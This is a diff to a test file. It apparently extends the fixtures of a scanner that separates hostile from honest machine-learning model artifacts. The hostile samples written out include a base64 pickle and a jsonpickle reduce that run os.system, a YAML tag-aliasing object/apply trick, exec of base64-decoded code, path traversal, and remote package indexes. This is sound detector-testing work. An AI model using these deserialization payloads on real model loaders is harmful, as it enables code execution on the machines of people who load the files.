@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import base64
 import json
+import pickle
 import struct
 
 import pytest
@@ -25,7 +27,14 @@ HOSTILE = {
     "config.json": (
         json.dumps({"model_type": "x", "auto_map": {"AutoModel": "modeling_x.X"}}),
         json.dumps({"model_type": "x", "trust_remote_code": True}),
+        json.dumps({"model_type": "llama", "_attn_implementation": "someone/kernel"}),
     ),
+    "data": (
+        json.dumps({"policy": {":serialized:": base64.b64encode(b"cos\nsystem\n(S'id'\ntR.").decode()}}),
+        json.dumps({"py/object": "m.M", "py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}),
+        json.dumps({"a": {"py/repr": "os/os.getcwd()"}}),
+    ),
+    "adapter_config.json": (json.dumps({"peft_type": "LORA", "megatron_core": "mine.core"}),),
     "modules.json": (json.dumps([{"type": "mine.Transformer", "path": ""}]),),
     "model_index.json": (json.dumps({"_class_name": "P", "_diffusers_version": "1", "unet": ["mine", "U"]}),),
     "model.safetensors.index.json": (json.dumps({"weight_map": {"a": "../../x.bin"}}),),
@@ -34,7 +43,9 @@ HOSTILE = {
         "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: ../../x\n",
     ),
     "requirements.txt": ("--extra-index-url http://e.example/simple\nnumpy\n", "x @ https://e.example/x.whl\n", "-r file:///elsewhere/all.txt\n"),
-    "conf.yaml": ("a:\n  _target_: os.system\n", "a: !!python/object/apply:os.system [id]\n"),
+    "conf.yaml": (
+        "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system [id]\n",
+        "a:\n  _target_: os.system\n", "a: !!python/object/apply:os.system [id]\n"),
     "modeling.py": (
         "from os import system as s\ns('id')\n",
         "import base64\nexec(base64.b64decode('eA=='))\n",
@@ -69,7 +80,12 @@ HONEST = {
     ),
     "generate.py": ("def generate(model, **kept):\n    return model\n",),
     "requirements.txt": ("torch>=2\nnumpy==1.26 ; python_version >= '3.9'\ntransformers[torch]~=4.0  # pinned\n",),
-    "conf.yaml": ("model:\n  _target_: torch.nn.Linear\n  in_features: 3\n",),
+    "data": (json.dumps({"lr": {":serialized:": base64.b64encode(pickle.dumps([0.5])).decode()}}),),
+    "adapter_config.json": (json.dumps({"peft_type": "LORA", "megatron_core": "megatron.core"}),),
+    "conf.yaml": (
+        "model:\n  _target_: torch.nn.Linear\n  in_features: 3\n",
+        "model:\n  _target_: timm.create_model\n  model_name: resnet18\ndata: ${oc.env:HOME}/data\n",
+    ),
     "modeling.py": ("import os\nimport torch\nclass N(torch.nn.Module):\n    p = os.path.join('a', 'b')\n",),
     "net.pmml": ('<PMML version="4.4"><Header><Extension name="a" value="b"/></Header></PMML>',),
 }
